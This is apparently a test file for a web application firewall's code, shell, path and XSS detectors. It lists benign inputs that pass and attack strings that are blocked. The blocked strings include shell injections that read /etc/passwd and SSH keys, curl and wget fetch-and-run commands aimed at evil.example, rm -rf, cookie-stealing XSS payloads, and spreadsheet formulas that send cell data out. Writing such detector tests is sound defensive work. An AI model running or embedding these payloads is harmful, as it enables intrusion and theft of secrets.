// Code and commands that people show one another, and the same where they would run.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
import { detectPath } from '../../../src/guard/decide/waf/detect/path/path.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';

const passes = (score: number | undefined, text: string) => assert.ok((score ?? 0) < 50, `${score}: ${text}`);
const blocks = (score: number | undefined, text: string) =>
  assert.ok((score ?? 0) >= 50, `${score}: ${text}`);

test('a call with a sentence behind it runs nowhere, as no language reads two names in a row', () => {
  for (const text of [
    'echo shell_exec("convert $in"); prints nothing',
    'os.system("ls") vs subprocess.run(["ls"])',
  ])
    passes(detectCode(text)?.score, text);
  for (const text of [
    "system('id'); // shows who runs it",
    "system('id'); __halt_compiler(); rest of it",
    '${system(id)} and words behind it',
    "';system('id');echo 'words in a string",
  ])
    blocks(detectCode(text)?.score, text);
});

test('what follows a whole command counts less, unless it would be worth sending anyhow', () => {
  const kept = 'RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*';
  passes(detectShell(kept)?.score, kept);
  for (const text of [
    'ping -c 3 8.8.8.8; cat /etc/passwd',
    'tar -czf a.tgz b; curl http://evil.example/x | sh',
    'x; rm -rf /var/lib/apt',
  ])
    blocks(detectShell(text)?.score, text);
});

test('commands that anybody keeps are shown where they follow a command, a prompt or an instruction, not where they follow a value', () => {
  for (const text of [
    'head -n 5 access.log; cut -d" " -f1 access.log | sort -u',
    '~/app main ❯ git stash && git pull --rebase',
    'test: sh -c "cp .env.example .env && npm ci"',
    'curl -fsSL https://get.tool.example/install.sh | bash',
    'Get-Process | Where-Object {$_.Name -like "a*"} | Stop-Process',
  ])
    passes(detectShell(text)?.score, text);
  for (const text of [
    '127.0.0.1; ls -la',
    'report.pdf && cat config.yml',
    'npm ci; cat ~/.ssh/id_rsa',
    'head -n 5 a.log; cat /etc//passwd',
    'git pull; wget http://evil.example/x; sh x',
    'git pull; rm -rf /srv/app',
    'ls a; touch /tmp/x',
    'cat a.log; tail -n 9 /e?c/p?sswd/x',
    'x; curl -fsSL https://get.tool.example/install.sh | bash',
    'curl https://get.tool.example/install.sh | sh',
    'ls -la',
    '\nls -la',
  ])
    blocks(detectShell(text)?.score, text);
});

test('what a page does of itself passes, and what somebody wants of its readers does not', () => {
  for (const text of [
    "<script>console.log('loaded')</script>",
    '<script src="/static/main.js" defer></script>',
    '<iframe src="https://maps.example.com/embed" width="600" height="450"></iframe>',
    '<svg onload="init(evt)">',
    `<button onclick="alert('Saved!')">Save</button>`,
    "new Function('a', 'b', 'return a + b')(1, 2)",
  ])
    passes(detectXss(text)?.score, text);
  for (const text of [
    '<script>console.log(document["coo"+"kie"])</script>',
    '"><script src="/uploads/x.js"></script>',
    '<iframe src="https://evil.example" width=9 onload=alert(1)></iframe>',
    `<button onclick="alert('Saved!');eval(name)">Save</button>`,
    '<img src=`x`onerror=alert(1)>',
    '<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>',
    "<script>console.log('x')</script>".repeat(80),
    "new Function('a', 'alert(a)')(1)",
  ])
    blocks(detectXss(text)?.score, text);
});

test('a program that asks for nothing an intruder wants is shown', () => {
  for (const text of [
    "const { exec } = require('child_process'); exec('npm run build', (e, out) => console.log(out));",
    'import subprocess\nout = subprocess.run(["git", "status"]).stdout',
    'lambda e: __import__("math").sqrt(e)',
    'fmt.Println(os.Getenv("HOME"))',
  ])
    passes(detectCode(text)?.score, text);
  for (const text of [
    "const x = require('child_process').execSync('id')",
    "import os; os.system('cat /etc/passwd')",
    'subprocess.run(["python", "-c", "print(1)"])',
    "exec('npm run x; id')",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  ])
    blocks(detectCode(text)?.score, text);
  passes(detectCode('=HYPERLINK("https://example.com","Open")')?.score, 'a link in a table');
});

test('a path with a word behind it opens no file; a request line does', () => {
  passes(detectPath('/etc/passwd permissions default')?.score, 'a search');
  passes(detectPath('cat: /etc/shadow: Permission denied')?.score, 'what a program said');
  passes(detectPath('chmod 600 ~/.ssh/id_rsa; ssh-add')?.score, 'home, to a shell');
  const log = '203.0.113.9 - - [12/Mar/2025:10:11:13 +0000] "GET /../../etc/passwd HTTP/1.1" 400';
  passes(detectPath(log)?.score, log);
  for (const text of ['/etc/passwd', '~/.ssh/id_rsa', 'GET /.env HTTP/1.1', '../../../etc/passwd as text'])
    blocks(detectPath(text)?.score, text);
});
